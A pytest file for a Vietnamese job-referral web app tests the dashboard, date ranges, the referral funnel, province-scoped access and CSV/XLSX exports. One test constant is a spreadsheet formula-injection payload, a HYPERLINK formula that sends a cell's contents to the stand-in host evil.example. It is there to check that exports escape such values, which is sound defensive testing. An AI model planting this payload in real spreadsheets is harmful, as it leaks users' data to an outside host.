"""The dashboard (date range, funnel, exports, roll-ups) and the follow-ups page."""
import csv
import datetime as dt
import io
import re

import pytest

from indexer import clock
from sqlalchemy import select, update

from matcher.models import audit_log, referrals

from test_referrals import backdate, outcome, refer
from web_helpers import PROFILE_FORM, post_form


def _fig(html, name):
    return re.search(rf'id="fig-{name}">([^<]*)<', html).group(1).strip()


def test_match_runs_count_runs_not_page_views(web_app, officer, profile_id):
    """Reloading the matches page or changing a filter is not a new match run."""
    for query in ("", "", "?employment_type=full_time", "?max_km=10", ""):
        assert officer.get(f"/profiles/{profile_id}/matches{query}").status_code == 200
    assert _fig(officer.get("/dashboard").get_data(as_text=True), "matches") == "1"
    # Changing the profile and matching again is a new run.
    post_form(officer, f"/profiles/{profile_id}/edit", {**PROFILE_FORM, "max_commute_km": "40"})
    officer.get(f"/profiles/{profile_id}/matches")
    assert _fig(officer.get("/dashboard").get_data(as_text=True), "matches") == "2"


def test_followups_says_referrals_exist_but_none_due(officer, profile_id):
    html = officer.get("/followups").get_data(as_text=True)
    assert "Chưa có giới thiệu nào" in html
    refer(officer, profile_id)
    html = officer.get("/followups").get_data(as_text=True)
    assert "Chưa có giới thiệu nào" not in html
    assert "Có 1 lượt giới thiệu, chưa lượt nào đến hạn kiểm tra." in html


def _engine(web_app):
    return web_app.extensions["vungbuoc"].store.engine


def _created_at(web_app, referral_id, when):
    with _engine(web_app).begin() as conn:
        conn.execute(update(referrals).where(referrals.c.id == referral_id).values(
            created_at=when))


def test_a_day_is_vietnams_day(web_app, officer, profile_id):
    """A referral made at 00:30 in Vietnam (17:30 UTC the day before) counts on Vietnam's day."""
    referral_id = refer(officer, profile_id)
    _created_at(web_app, referral_id, dt.datetime(2026, 1, 31, 17, 30, tzinfo=dt.timezone.utc))
    html = officer.get("/dashboard?from=2026-02-01&to=2026-02-01").get_data(as_text=True)
    assert _fig(html, "referrals") == "1"
    html = officer.get("/dashboard?from=2026-01-31&to=2026-01-31").get_data(as_text=True)
    assert _fig(html, "referrals") == "0"
    # The default range is this quarter: an old referral is outside it.
    assert _fig(officer.get("/dashboard").get_data(as_text=True), "referrals") == "0"


def test_funnel_follows_the_referrals_of_the_range(web_app, officer, profile_id):
    first, second = refer(officer, profile_id), refer(officer, profile_id, doc_id=2)
    outcome(officer, first, "interviewed")
    outcome(officer, first, "hired")
    backdate(web_app, first, 100)
    assert outcome(officer, first, "employed_3m").status_code == 302
    outcome(officer, second, "not_hired")
    today = clock.today().isoformat()
    html = officer.get(f"/dashboard?from=2020-01-01&to={today}").get_data(as_text=True)
    cells = dict(re.findall(r'id="funnel-(\w+)">(\d+)<', html))
    assert cells == {"referred": "2", "interviewed": "1", "hired": "1", "employed_3m": "1",
                     "employed_6m": "0"}
    # The chart has a text equivalent: the same figures in a table the SVG points to.
    assert 'aria-describedby="funnel-d funnel-table"' in html and 'id="funnel-table"' in html


@pytest.mark.parametrize("query,field,message", [
    ("from=2026-13-01", "from", "Hãy nhập ngày theo dạng NNNN-TT-NN"),
    ("from=2026-03-10&to=2026-03-01", "to", "Ngày kết thúc không được trước ngày bắt đầu."),
    ("from=2999-01-01", "from", "Ngày bắt đầu không được ở tương lai."),
    ("from=2020-01-01&to=2026-01-01", "to", "Mỗi lần xem tối đa ba năm."),
    ("to=yesterday", "to", "Hãy nhập ngày theo dạng NNNN-TT-NN"),
])
def test_a_bad_range_is_refused_beside_its_field(officer, query, field, message):
    response = officer.get(f"/dashboard?{query}")
    html = response.get_data(as_text=True)
    assert response.status_code == 422
    assert re.search(rf'id="range-{field}-error">[^<]*{re.escape(message)}', html)
    assert f'id="range-{field}" name="{field}"' in html and 'aria-invalid="true"' in html
    assert officer.get(f"/dashboard/export.xlsx?{query}").status_code == 422


EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"Bấm")'


def _evil_job(web_app):
    from factories import make_posting
    svc = web_app.extensions["vungbuoc"]
    svc.save("jobs", [make_posting(external_id="J-evil", title=EVIL)])
    svc.sync()
    return svc.store.find_document("jobs", "cty-test", "J-evil")["id"]


def test_exports_carry_the_figures_escaped_and_are_audited(web_app, officer, profile_id):
    from openpyxl import load_workbook
    referral_id = refer(officer, profile_id, doc_id=_evil_job(web_app))
    outcome(officer, referral_id, "interviewed")
    outcome(officer, referral_id, "hired")
    today = clock.today().isoformat()
    query = f"from=2026-01-01&to={today}"

    response = officer.get(f"/dashboard/export.xlsx?{query}")
    assert response.status_code == 200
    assert response.mimetype.endswith("spreadsheetml.sheet")
    assert "attachment" in response.headers["Content-Disposition"]
    book = load_workbook(io.BytesIO(response.data))
    assert book.sheetnames == ["Tổng hợp", "Xã, phường", "Giới thiệu đến", "Việc đang tuyển"]
    summary = {r[0]: r[1:] for r in book["Tổng hợp"].iter_rows(values_only=True) if r[0]}
    assert summary["Giới thiệu"][0] == 1 and summary["Được tuyển"][0] == 1
    titles = [r for r in book["Giới thiệu đến"].iter_rows(values_only=True)][1:]
    assert titles == [("Việc làm", "'" + EVIL, "Công ty TNHH Thử Nghiệm", 1)]
    cell = book["Giới thiệu đến"]["B2"]
    assert cell.data_type == "s"  # text, not a formula
    wards = list(book["Xã, phường"].iter_rows(values_only=True))
    assert wards[1][:2] == ("Phường Sầm Sơn, Thanh Hóa", "16531")

    response = officer.get(f"/dashboard/export.csv?{query}")
    assert response.status_code == 200 and response.mimetype == "text/csv"
    rows = list(csv.reader(io.StringIO(response.data.decode("utf-8-sig"))))
    assert ["Việc làm", "'" + EVIL, "Công ty TNHH Thử Nghiệm", "1"] in rows
    assert all(not cell.startswith(("=", "+", "-", "@", "\t", "\r")) for row in rows
               for cell in row)
    with _engine(web_app).connect() as conn:
        audited = conn.execute(select(audit_log.c.detail).where(
            audit_log.c.action == "report.export")).scalars().all()
    assert len(audited) == 2 and all('"scope": "16531"' in d for d in audited)
    assert '"format": "xlsx"' in audited[0] and '"format": "csv"' in audited[1]


@pytest.mark.parametrize("value,escaped", [
    ("=1+1", "'=1+1"), ("+84 912", "'+84 912"), ("-2", "'-2"), ("@SUM(A1)", "'@SUM(A1)"),
    ("\tx", "'\tx"), ("\rx", "'\rx"), ("Thợ hàn", "Thợ hàn"), (-2, -2), (None, None)])
def test_safe_cell(value, escaped):
    from matcher.services.exports import safe_cell
    assert safe_cell(value) == escaped


def test_province_account_sees_counts_per_ward_never_a_case(web_app, officer, other_officer,
                                                            profile_id):
    from web_helpers import PASSWORD, login
    refer(officer, profile_id)
    post_form(other_officer, "/profiles/new", {**PROFILE_FORM, "case_code": "NSS-01",
                                               "ward": "Phường Nam Sầm Sơn"})
    accounts = web_app.extensions["officers"].accounts
    user = accounts.create("tinh.th", PASSWORD, role="province", unit="Thanh Hóa")
    assert user["unit"] == "38"
    province = web_app.test_client()
    assert login(province, "tinh.th").status_code == 302
    html = province.get("/dashboard").get_data(as_text=True)
    assert "Tổng quan của tỉnh" in html and "Tỉnh Thanh Hóa" in html
    assert _fig(html, "profiles") == "2" and _fig(html, "referrals") == "1"
    table = re.search(r'<table class="figures" id="ward-table".*?</table>', html, re.S).group(0)
    assert "Phường Sầm Sơn" in table and "Phường Nam Sầm Sơn" in table
    assert "TS-2026-01" not in html and "NSS-01" not in html
    # One ward of the province: its counts; a ward elsewhere: not found.
    html = province.get("/dashboard?scope=16531").get_data(as_text=True)
    assert _fig(html, "profiles") == "1"
    assert province.get("/dashboard?scope=00004").status_code == 404  # a ward of Hà Nội
    export = province.get("/dashboard/export.csv").data.decode("utf-8-sig")
    assert "TS-2026-01" not in export and "Phường Nam Sầm Sơn" in export
    # No page of cases: profiles, referrals, follow-ups all lead to the dashboard.
    for path in ("/", f"/profiles/{profile_id}", "/profiles/new", "/followups",
                 f"/profiles/{profile_id}/matches"):
        response = province.get(path)
        assert response.status_code == 302 and response.location == "/dashboard", path
    # And an officer cannot widen their own scope.
    assert officer.get("/dashboard?scope=38").status_code == 404
    assert officer.get("/dashboard?scope=all").status_code == 404


def test_admins_see_the_dashboard(web_app, officer, profile_id):
    from web_helpers import PASSWORD, login
    web_app.extensions["officers"].accounts.create("root", PASSWORD, role="admin")
    admin = web_app.test_client()
    login(admin, "root")
    html = admin.get("/dashboard").get_data(as_text=True)
    assert "Tổng quan của mọi xã, phường" in html and _fig(html, "profiles") == "1"
    assert 'href="/dashboard"' in html
    assert '<option value="01">Thành phố Hà Nội</option>' in html  # every province listed
    assert _fig(admin.get("/dashboard?scope=16531").get_data(as_text=True), "profiles") == "1"
    assert admin.get("/dashboard/export.xlsx?scope=38").status_code == 200


def test_cli_creates_a_province_account(settings, monkeypatch):
    from click.testing import CliRunner
    from matcher.cli import main
    monkeypatch.setenv("VUNGBUOC_DATA_DIR", settings["DATA_DIR"])
    result = CliRunner().invoke(main, ["users", "create", "tinh", "--role", "province",
                                       "--unit", "thanh hoa", "--password-stdin"],
                                input="long enough pw\n")
    assert result.exit_code == 0, result.output
    assert "created province tinh (Tỉnh Thanh Hóa, code 38)" in result.output
    result = CliRunner().invoke(main, ["users", "create", "tinh2", "--role", "province",
                                       "--unit", "Atlantis", "--password-stdin"],
                                input="long enough pw\n")
    assert result.exit_code == 1 and "unit" in result.output


def test_support_measures_are_counted_per_status(web_app, officer, profile_id):
    """The casework checklist's records, counted on the dashboard and in the export."""
    from openpyxl import load_workbook
    officers = web_app.extensions["officers"]
    lan = officers.accounts.by_username("lan")
    today = clock.today()
    officers.support.record(lan, profile_id, "vocational_training", "applied", today)
    officers.support.record(lan, profile_id, "vocational_training", "granted", today)
    html = officer.get("/dashboard").get_data(as_text=True)
    assert _fig(html, "profiles") == "1"
    assert re.search(r'id="support-vocational_training-applied">1<', html)
    assert re.search(r'id="support-vocational_training-granted">1<', html)
    assert re.search(r'id="support-preferential_loan-suggested">1<', html)  # not in work
    book = load_workbook(io.BytesIO(officer.get("/dashboard/export.xlsx").data))
    rows = {r[0]: r[1:] for r in book["Tổng hợp"].iter_rows(values_only=True) if r[0]}
    assert rows["Hỗ trợ học nghề"][:4] == (0, 1, 1, 0)
